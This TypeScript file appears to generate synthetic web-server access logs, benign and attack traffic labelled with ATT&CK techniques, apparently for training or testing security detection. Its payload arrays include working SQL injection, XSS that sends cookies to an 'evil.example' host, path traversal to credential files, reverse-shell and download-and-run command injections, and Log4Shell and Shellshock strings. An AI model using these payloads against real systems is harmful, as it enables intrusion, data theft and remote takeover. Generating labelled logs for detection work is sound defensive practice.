import type { Severity } from '@opensoc/contracts';
import { apacheTime, BROWSER_UAS, encodePayload, Gen, TOOL_UAS, urlEncode } from './common.ts';
import type { Generated, Scenario } from './common.ts';

type WebSource = 'apache-access' | 'nginx-access';

interface Request {
  ip: string;
  method: string;
  target: string;
  status: number;
  bytes: number;
  ua: string;
  referer?: string;
}

const VHOSTS = ['www.shop.example', 'portal.example.com', 'api.example.com', 'intranet.example.org'];

/**
 * One access-log line. Apache: combined, vhost_combined or common; nginx: combined, with
 * X-Forwarded-For, or with upstream timings — the formats sites actually configure.
 */
function accessLine(g: Gen, source: WebSource, variant: number, r: Request): string {
  const ref = r.referer ?? '-';
  const bytes = r.bytes === 0 && source === 'apache-access' ? '-' : String(r.bytes);
  const core = `${r.ip} - - [${apacheTime(g.t)}] "${r.method} ${r.target} HTTP/1.1" ${r.status} ${bytes}`;
  if (source === 'apache-access') {
    if (variant < 0.1) return core;
    if (variant < 0.22) return `${g.pick(VHOSTS)}:443 ${core} "${ref}" "${r.ua}"`;
    return `${core} "${ref}" "${r.ua}"`;
  }
  if (variant < 0.25) return `${core} "${ref}" "${r.ua}" "${g.sticky(`xff:${r.ip}`, () => (g.chance(0.5) ? '-' : g.ipExternal()))}"`;
  if (variant < 0.45) return `${core} "${ref}" "${r.ua}" rt=${(g.int(1, 2500) / 1000).toFixed(3)} uct="0.000" urt="${(g.int(1, 2400) / 1000).toFixed(3)}"`;
  return `${core} "${ref}" "${r.ua}"`;
}

/** A record of one or more requests sharing a line format (one server writes one format). */
function lines(g: Gen, source: WebSource, requests: (() => Request)[], gap: [number, number] = [0, 1500]): string {
  const variant = g.rng.next();
  return requests.map((make) => {
    g.tick(gap[0], gap[1]);
    return accessLine(g, source, variant, make());
  }).join('\n');
}

const PAGES = ['/', '/index.html', '/about', '/contact', '/products', '/products/laptops', '/products/phones?sort=price', '/blog', '/blog/2025/03/release-notes', '/pricing', '/careers', '/support/faq', '/docs/getting-started', '/account', '/cart', '/checkout', '/search?q=wireless+headphones', '/search?q=usb-c+cable&page=2', '/category/garden?page=3', '/news'];
const ASSETS = ['/static/js/main.{h}.js', '/static/css/app.{h}.css', '/assets/img/logo.svg', '/assets/fonts/inter-var.woff2', '/favicon.ico', '/static/js/vendor.{h}.chunk.js', '/images/products/{n}.jpg', '/manifest.json'];
const API = ['/api/v1/products/{n}', '/api/v1/cart', '/api/v1/orders?page={n}', '/api/v2/users/me', '/api/v1/recommendations?limit=10', '/graphql', '/api/v1/inventory/{n}/stock', '/api/v1/session/refresh'];
const API_UAS = ['okhttp/4.12.0', 'axios/1.6.8', 'ShopApp/5.2.1 (iOS 17.4)', 'ShopApp/5.2.0 (Android 14)', 'Apache-HttpClient/4.5.14 (Java/17.0.10)'];
const REFERERS = ['https://www.google.com/', 'https://www.bing.com/', 'https://duckduckgo.com/', 'https://www.shop.example/', 'https://www.shop.example/products', 'https://t.co/x1Yz'];

function fill(g: Gen, path: string): string {
  return path.replace('{h}', g.hex(8)).replace('{n}', String(g.int(1, 99999)));
}

const SQLI = [
  "1' OR '1'='1", '1 OR 1=1-- -', "' UNION SELECT username,password FROM users--", '1 AND SLEEP(5)', "1' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- -",
  '1; DROP TABLE users--', "admin'--", '1 AND 1=CONVERT(int,@@version)--', "1' AND extractvalue(1,concat(0x7e,version()))-- -",
  '-1 UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables--', "1' ORDER BY 10--", "1 WAITFOR DELAY '0:0:5'--",
  "'; EXEC xp_cmdshell('whoami')--", "1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--", '1 OR pg_sleep(5)--',
  "' OR 1=1#", '1) OR (1=1', "1' UNION SELECT NULL,@@version,NULL-- -", "x' AND 1=(SELECT COUNT(*) FROM tabname); --", "1' AND updatexml(1,concat(0x7e,(SELECT user())),1)-- -",
  "1 UNION SELECT load_file('/etc/passwd')", "';SELECT pg_read_file('/etc/passwd');--",
];
const SQLI_TARGETS = ['/products.php?id=', '/item?cat=', '/search?q=', '/api/v1/users?sort=', '/login.php?user=', '/news/view?article=', '/report?from=', '/index.php?option=com_content&id=', '/catalog?product_id=', '/api/orders?status='];

const XSS = [
  '<script>alert(1)</script>', '"><img src=x onerror=alert(document.domain)>', '<svg/onload=alert(1)>', 'javascript:alert(document.cookie)',
  '<iframe src=javascript:alert(1)>', "'-alert(1)-'", "<body onload=fetch('//xss.evil.example/'+document.cookie)>", '<ScRiPt>prompt(1)</sCrIpT>',
  '<details open ontoggle=alert(1)>', "{{constructor.constructor('alert(1)')()}}", '"><script src=//cdn.evil.example/x.js></script>', '<img src=1 onerror=eval(atob(this.id)) id=YWxlcnQoMSk=>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
];
const XSS_TARGETS = ['/search?q=', '/comment?text=', '/profile?name=', '/guestbook.php?msg=', '/redirect?url=', '/error?message=', '/feedback?subject=', '/wiki/Special:Search?search='];

const TRAVERSAL = [
  '../../../../etc/passwd', '..%2f..%2f..%2fetc%2fshadow', '....//....//....//etc/passwd', '..\\..\\..\\windows\\win.ini', '/var/www/../../etc/hosts',
  '%2e%2e%2f%2e%2e%2f%2e%2e%2fboot.ini', '..%252f..%252f..%252fetc%252fpasswd', '..%c0%af..%c0%af..%c0%afetc/passwd', '/proc/self/environ',
  'php://filter/convert.base64-encode/resource=index.php', 'file:///etc/passwd', '../../../../../../var/log/apache2/access.log', '..%5c..%5c..%5cinetpub%5cwwwroot%5cweb.config',
  '../../../../root/.ssh/id_rsa', '/etc/passwd%00.jpg',
];
const TRAVERSAL_TARGETS = ['/download?file=', '/view.php?page=', '/api/files?path=', '/index.php?lang=', '/image?name=', '/export?template=', '/include.php?inc='];

const CMDI = [
  ';id', '| whoami', '&& cat /etc/passwd', '`uname -a`', '$(curl -s http://{ip}/s.sh|sh)', ';wget http://{ip}/x -O /tmp/x;chmod +x /tmp/x;/tmp/x',
  '|nc -e /bin/sh {ip} 4444', '%0aid', '127.0.0.1;cat /etc/shadow', '& ping -c 10 {ip} &', ';bash -i >& /dev/tcp/{ip}/4444 0>&1', '|| powershell -nop -c "iwr http://{ip}/a.ps1|iex"',
  '; busybox wget http://{ip}/mips; chmod 777 mips; ./mips', '$(echo${IFS}aWQ=|base64${IFS}-d|sh)',
];
const CMDI_TARGETS = ['/ping?host=', '/cgi-bin/diag.cgi?ip=', '/api/tools/nslookup?domain=', '/admin/exec?cmd=', '/convert?file=', '/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=', '/api/v1/backup?name='];

const EXPLOITS: ((g: Gen) => { method: string; target: string; ua?: string })[] = [
  (g) => ({ method: 'GET', target: `/?x=${g.pick(['${jndi:ldap://', '${${lower:j}ndi:${lower:l}dap://', '${jndi:${lower:r}mi://', '%24%7Bjndi%3Aldap%3A%2F%2F'])}${g.ipExternal()}:1389/${g.alnum(6)}}` }),
  (g) => ({ method: 'GET', target: '/', ua: `\${jndi:ldap://${g.ipExternal()}:${g.pick([389, 1389, 1099])}/Basic/Command/Base64/${g.b64(24)}}` }),
  (g) => ({ method: 'GET', target: `/cgi-bin/${g.pick(['status', 'test.cgi', 'admin.cgi'])}`, ua: `() { :; }; /bin/bash -c '${g.pick(['cat /etc/passwd', `wget http://${g.ipExternal()}/b -O /tmp/b`, 'id'])}'` }),
  () => ({ method: 'POST', target: '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php' }),
  () => ({ method: 'GET', target: '/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id' }),
  () => ({ method: 'POST', target: '/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php' }),
  () => ({ method: 'POST', target: '/cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/bin/sh' }),
  () => ({ method: 'POST', target: '/mgmt/tm/util/bash' }),
  () => ({ method: 'GET', target: '/vpn/../vpns/cfg/smb.conf' }),
  () => ({ method: 'GET', target: `/${urlEncode("${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('id').getInputStream(),'utf-8'))}")}/` }),
  () => ({ method: 'POST', target: '/actuator/gateway/routes/hacktest' }),
  () => ({ method: 'GET', target: '/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di' }),
  () => ({ method: 'POST', target: '/autodiscover/autodiscover.json?@evil.example/owa/&Email=autodiscover/autodiscover.json%3F@evil.example' }),
  () => ({ method: 'GET', target: '/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession' }),
  () => ({ method: 'POST', target: '/api/v4/ci/lint?include_merged_yaml=true' }),
];

const SCAN_PATHS = ['/.env', '/.git/config', '/wp-admin/', '/phpmyadmin/', '/admin/', '/server-status', '/backup.zip', '/db.sql', '/.aws/credentials', '/config.php.bak', '/actuator/env', '/.DS_Store', '/web.config', '/cgi-bin/test-cgi', '/solr/admin/info/system', '/telescope/requests', '/debug/pprof/', '/.svn/entries', '/owa/auth/logon.aspx', '/manager/html', '/HNAP1/', '/console/', '/api/swagger.json', '/v2/_catalog'];
const WORDLIST = ['admin', 'backup', 'old', 'test', 'dev', 'staging', 'tmp', 'uploads', 'private', 'config', 'db', 'logs', 'api', 'secret', 'internal', 'files', 'data', 'archive', 'cgi-bin', 'include', 'install', 'setup', 'portal', 'images2'];
const SCANNER_UAS = [TOOL_UAS[1]!, TOOL_UAS[2]!, TOOL_UAS[8]!, TOOL_UAS[11]!, 'Mozilla/5.0 zgrab/0.x', 'Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)'];
const LOGIN_TARGETS = ['/wp-login.php', '/login', '/user/login', '/api/auth/login', '/xmlrpc.php', '/administrator/index.php', '/j_spring_security_check', '/owa/auth.owa'];
const SHELLS = ['/uploads/{y}/{m}/{f}.php', '/images/.cache/{f}.aspx', '/wp-content/plugins/hello-dolly/{f}.php', '/assets/tmp/{f}.jsp', '/wp-content/uploads/{y}/{m}/{f}.phtml'];
const SHELL_CMDS = ['whoami', 'id', 'uname -a', 'cat /etc/passwd', 'dir C:\\', 'net user', 'ls -la /var/www', 'ps aux', 'ipconfig /all', 'wget http://{ip}/k -O /tmp/k'];

/** Severity from the outcome a reviewer sees in the line. */
function outcomeSeverity(status: number, bytes: number, onSuccess: Severity, onError: Severity, onBlock: Severity): Severity {
  if (status >= 200 && status < 300) return bytes > 2000 ? onSuccess : onError;
  if (status >= 500) return onError;
  return onBlock;
}

export function webScenarios(source: WebSource): Scenario[] {
  const s = source === 'apache-access' ? 'apache' : 'nginx';
  const one = (g: Gen, r: Request) => lines(g, source, [() => r]);
  const browser = (g: Gen) => g.pick(BROWSER_UAS);
  const attackUa = (g: Gen) => (g.chance(0.5) ? g.pick(BROWSER_UAS) : g.pick(TOOL_UAS));

  const injection = (
    name: string,
    category: Scenario['category'],
    threatType: string,
    payloads: string[],
    targets: string[],
    kinds: Parameters<typeof encodePayload>[2],
    count: number,
    sev: [Severity, Severity, Severity],
  ): Scenario => ({
    name: `${s}-${name}`,
    source,
    category,
    threatType,
    technique: 'T1190',
    tactic: 'initial-access',
    severity: 'HIGH',
    count,
    make: (g): Generated => {
      const payload = g.pick(payloads).replace(/\{ip\}/g, g.ipExternal());
      const status = g.pick([200, 200, 403, 403, 404, 500, 406, 400]);
      const bytes = status === 200 ? g.int(300, 48000) : g.int(0, 900);
      const r: Request = { ip: g.client(), method: g.chance(0.85) ? 'GET' : 'POST', target: g.pick(targets) + encodePayload(g, payload, kinds), status, bytes, ua: attackUa(g) };
      return { log: one(g, r), severity: outcomeSeverity(status, bytes, ...sev) };
    },
  });

  return [
    {
      name: `${s}-benign-pageview`, source, category: 'benign', threatType: 'Normal web browsing', technique: null, tactic: null, severity: 'LOW', count: 60,
      make: (g) => {
        const ip = g.client(g.chance(0.8));
        const ua = browser(g);
        const n = g.int(1, 4);
        return lines(g, source, Array.from({ length: n }, (_, i) => () => {
          const asset = i > 0 && g.chance(0.6);
          const target = fill(g, asset ? g.pick(ASSETS) : g.pick(PAGES));
          const status = g.weighted([[200, 8], [304, 2], [301, 1]] as const);
          return { ip, method: 'GET', target, status, bytes: status === 200 ? g.int(200, 90000) : 0, ua, referer: g.chance(0.6) ? g.pick(REFERERS) : undefined };
        }));
      },
    },
    {
      name: `${s}-benign-api`, source, category: 'benign', threatType: 'Normal API traffic', technique: null, tactic: null, severity: 'LOW', count: 45,
      make: (g) => {
        const ip = g.client(true);
        const ua = g.pick(API_UAS);
        return lines(g, source, Array.from({ length: g.int(1, 3) }, () => () => {
          const method = g.weighted([['GET', 6], ['POST', 2], ['PUT', 1], ['DELETE', 1]] as const);
          const status = method === 'POST' ? g.pick([200, 201]) : method === 'DELETE' ? 204 : g.weighted([[200, 9], [404, 1]] as const);
          return { ip, method, target: fill(g, g.pick(API)), status, bytes: status === 204 ? 0 : g.int(40, 12000), ua };
        }));
      },
    },
    {
      name: `${s}-benign-bots-health`, source, category: 'benign', threatType: 'Crawler or health check', technique: null, tactic: null, severity: 'LOW', count: 35,
      make: (g) => {
        const kind = g.int(0, 2);
        if (kind === 0) return one(g, { ip: g.ipInternal(), method: 'GET', target: g.pick(['/healthz', '/health', '/status', '/ready']), status: 200, bytes: g.int(2, 60), ua: g.pick(['kube-probe/1.29', 'ELB-HealthChecker/2.0', 'Consul Health Check', 'Blackbox Exporter/0.25.0']) });
        if (kind === 1) return one(g, { ip: g.ipExternal(), method: 'GET', target: g.pick(['/robots.txt', '/sitemap.xml', '/sitemap-products.xml', '/', '/blog']), status: 200, bytes: g.int(100, 30000), ua: g.pick(['Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', 'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)', 'Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)']) });
        return one(g, { ip: g.client(), method: 'GET', target: g.pick(['/favicon.ico', '/apple-touch-icon.png', '/apple-touch-icon-precomposed.png', '/.well-known/security.txt']), status: 404, bytes: g.int(150, 500), ua: browser(g) });
      },
    },
    {
      name: `${s}-benign-login`, source, category: 'benign', threatType: 'Successful user login', technique: null, tactic: null, severity: 'LOW', count: 30,
      make: (g) => {
        const ip = g.client();
        const ua = browser(g);
        const target = g.pick(LOGIN_TARGETS.slice(0, 4));
        const failFirst = g.chance(0.3);
        const reqs: (() => Request)[] = [() => ({ ip, method: 'GET', target, status: 200, bytes: g.int(2000, 9000), ua })];
        if (failFirst) reqs.push(() => ({ ip, method: 'POST', target, status: 401, bytes: g.int(200, 900), ua, referer: 'https://www.shop.example' + target }));
        reqs.push(() => ({ ip, method: 'POST', target, status: 302, bytes: 0, ua, referer: 'https://www.shop.example' + target }));
        reqs.push(() => ({ ip, method: 'GET', target: g.pick(['/account', '/dashboard', '/wp-admin/']), status: 200, bytes: g.int(5000, 60000), ua }));
        return lines(g, source, reqs, [300, 8000]);
      },
    },
    injection('sqli', 'sql-injection', 'SQL injection attempt', SQLI, SQLI_TARGETS, ['raw', 'url', 'double', 'case', 'comment', 'plus'], 55, ['CRITICAL', 'HIGH', 'MEDIUM']),
    {
      name: `${s}-sqli-sqlmap-burst`, source, category: 'sql-injection', threatType: 'Automated SQL injection (sqlmap)', technique: 'T1190', tactic: 'initial-access', severity: 'HIGH', count: 25,
      make: (g) => {
        const ip = g.client();
        const target = g.pick(SQLI_TARGETS);
        const ua = g.chance(0.7) ? TOOL_UAS[0]! : g.pick(BROWSER_UAS);
        return lines(g, source, Array.from({ length: g.int(4, 10) }, () => () => {
          const status = g.pick([200, 500, 200, 302]);
          return { ip, method: 'GET', target: target + encodePayload(g, g.pick(SQLI), ['url', 'raw', 'comment']), status, bytes: g.int(0, 20000), ua };
        }), [20, 400]);
      },
    },
    injection('xss', 'cross-site-scripting', 'Cross-site scripting attempt', XSS, XSS_TARGETS, ['raw', 'url', 'double', 'case', 'plus'], 50, ['HIGH', 'MEDIUM', 'MEDIUM']),
    injection('traversal', 'path-traversal', 'Path traversal / local file inclusion', TRAVERSAL, TRAVERSAL_TARGETS, ['raw', 'raw', 'url', 'double'], 50, ['CRITICAL', 'HIGH', 'MEDIUM']),
    injection('cmdi', 'command-injection', 'OS command injection attempt', CMDI, CMDI_TARGETS, ['raw', 'url', 'double', 'plus'], 50, ['CRITICAL', 'HIGH', 'HIGH']),
    {
      name: `${s}-exploit-cve`, source, category: 'web-exploit', threatType: 'Exploit of a known web vulnerability', technique: 'T1190', tactic: 'initial-access', severity: 'HIGH', count: 50,
      make: (g): Generated => {
        const e = g.pick(EXPLOITS)(g);
        const status = g.pick([200, 404, 403, 500, 400, 200]);
        const bytes = status === 200 ? g.int(100, 9000) : g.int(0, 600);
        return { log: one(g, { ip: g.client(), method: e.method, target: e.target, status, bytes, ua: e.ua ?? attackUa(g) }), severity: status === 200 ? 'CRITICAL' : 'HIGH' };
      },
    },
    {
      name: `${s}-vuln-scan`, source, category: 'reconnaissance', threatType: 'Vulnerability scanning', technique: 'T1595.002', tactic: 'reconnaissance', severity: 'MEDIUM', count: 35,
      make: (g) => {
        const ip = g.client();
        const ua = g.pick(SCANNER_UAS);
        const paths = g.rng.shuffle(SCAN_PATHS).slice(0, g.int(5, 14));
        return lines(g, source, paths.map((p) => () => ({ ip, method: g.chance(0.9) ? 'GET' : 'HEAD', target: p, status: g.weighted([[404, 8], [403, 2], [200, 1]] as const), bytes: g.int(0, 600), ua })), [5, 300]);
      },
    },
    {
      name: `${s}-dir-bruteforce`, source, category: 'reconnaissance', threatType: 'Directory / content discovery with a wordlist', technique: 'T1595.003', tactic: 'reconnaissance', severity: 'MEDIUM', count: 25,
      make: (g) => {
        const ip = g.client();
        const ua = g.pick([TOOL_UAS[9]!, TOOL_UAS[10]!, 'Mozilla/5.0 (dirbuster)', 'feroxbuster/2.10.2']);
        const ext = g.pick(['', '.php', '.bak', '/', '.zip']);
        return lines(g, source, g.rng.shuffle(WORDLIST).slice(0, g.int(6, 15)).map((w) => () => ({ ip, method: 'GET', target: `/${w}${ext}`, status: g.weighted([[404, 12], [301, 1], [403, 1]] as const), bytes: g.int(150, 400), ua })), [1, 120]);
      },
    },
    {
      name: `${s}-login-bruteforce`, source, category: 'brute-force', threatType: 'Web login brute force', technique: 'T1110.001', tactic: 'credential-access', severity: 'HIGH', count: 30,
      make: (g): Generated => {
        const ip = g.client();
        const ua = g.chance(0.5) ? g.pick(TOOL_UAS.slice(3, 7)) : g.pick(BROWSER_UAS);
        const target = g.pick(LOGIN_TARGETS);
        const n = g.int(6, 18);
        const success = g.chance(0.25);
        return {
          log: lines(g, source, Array.from({ length: n }, (_, i) => () => {
            const ok = success && i === n - 1;
            return { ip, method: 'POST', target, status: ok ? 302 : target === '/xmlrpc.php' ? 200 : g.pick([401, 401, 403, 200]), bytes: ok ? 0 : g.int(200, 4000), ua };
          }), [50, 1500]),
          severity: success ? 'CRITICAL' : 'HIGH',
        };
      },
    },
    {
      name: `${s}-credential-stuffing`, source, category: 'brute-force', threatType: 'Credential stuffing', technique: 'T1110.004', tactic: 'credential-access', severity: 'HIGH', count: 25,
      make: (g) => {
        const target = g.pick(['/api/v1/session', '/api/auth/login', '/signin', '/account/login']);
        const ua = g.pick([...API_UAS, 'python-requests/2.31.0', 'Mozilla/5.0']);
        const botnet = g.chance(0.5);
        const ip0 = g.ipExternal();
        return lines(g, source, Array.from({ length: g.int(8, 20) }, () => () => ({ ip: botnet ? g.ipExternal() : ip0, method: 'POST', target, status: g.weighted([[401, 10], [429, 2], [200, 1]] as const), bytes: g.int(60, 300), ua })), [10, 600]);
      },
    },
    {
      name: `${s}-http-flood`, source, category: 'denial-of-service', threatType: 'HTTP flood', technique: 'T1499.002', tactic: 'impact', severity: 'HIGH', count: 25,
      make: (g) => {
        const many = g.chance(0.4);
        const ip0 = g.client();
        const target = g.pick(['/', '/search?q=' + g.alnum(6), '/api/v1/products', '/login', '/wp-admin/admin-ajax.php']);
        const ua = g.pick([...BROWSER_UAS, 'Go-http-client/1.1', '-']);
        return lines(g, source, Array.from({ length: g.int(10, 25) }, () => () => ({ ip: many ? g.ipExternal() : ip0, method: 'GET', target, status: g.weighted([[200, 2], [503, 4], [429, 3], [502, 1]] as const), bytes: g.int(0, 300), ua })), [0, 40]);
      },
    },
    {
      name: `${s}-slowloris`, source, category: 'denial-of-service', threatType: 'Slow HTTP (Slowloris) attack', technique: 'T1499.002', tactic: 'impact', severity: 'MEDIUM', count: 15,
      make: (g) => {
        const ip = g.client();
        return lines(g, source, Array.from({ length: g.int(6, 14) }, () => () => ({ ip, method: 'GET', target: g.chance(0.5) ? '/' : '/?' + g.int(1, 9999), status: 408, bytes: 0, ua: g.pick(BROWSER_UAS) })), [0, 200]);
      },
    },
    {
      name: `${s}-webshell`, source, category: 'persistence', threatType: 'Web shell upload and use', technique: 'T1505.003', tactic: 'persistence', severity: 'CRITICAL', count: 30,
      make: (g) => {
        const ip = g.client();
        const ua = attackUa(g);
        const shell = g.pick(SHELLS).replace('{y}', String(g.int(2019, 2025))).replace('{m}', String(g.int(1, 12)).padStart(2, '0')).replace('{f}', g.pick(['cmd', 'shell', 'x', 'wso', 'up', 'config', 'b374k', g.alnum(5)]));
        const reqs: (() => Request)[] = [];
        if (g.chance(0.5)) reqs.push(() => ({ ip, method: 'POST', target: g.pick(['/upload.php', '/wp-admin/async-upload.php', '/api/v1/avatar', '/admin/media/upload']), status: 200, bytes: g.int(50, 400), ua }));
        const param = g.pick(['cmd', 'c', 'exec', 'q']);
        for (let i = g.int(1, 4); i > 0; i--) reqs.push(() => ({ ip, method: g.chance(0.7) ? 'GET' : 'POST', target: `${shell}?${param}=${encodePayload(g, g.pick(SHELL_CMDS).replace('{ip}', g.ipExternal()), ['raw', 'url', 'plus'])}`, status: 200, bytes: g.int(20, 5000), ua }));
        return lines(g, source, reqs, [500, 20000]);
      },
    },
  ];
}
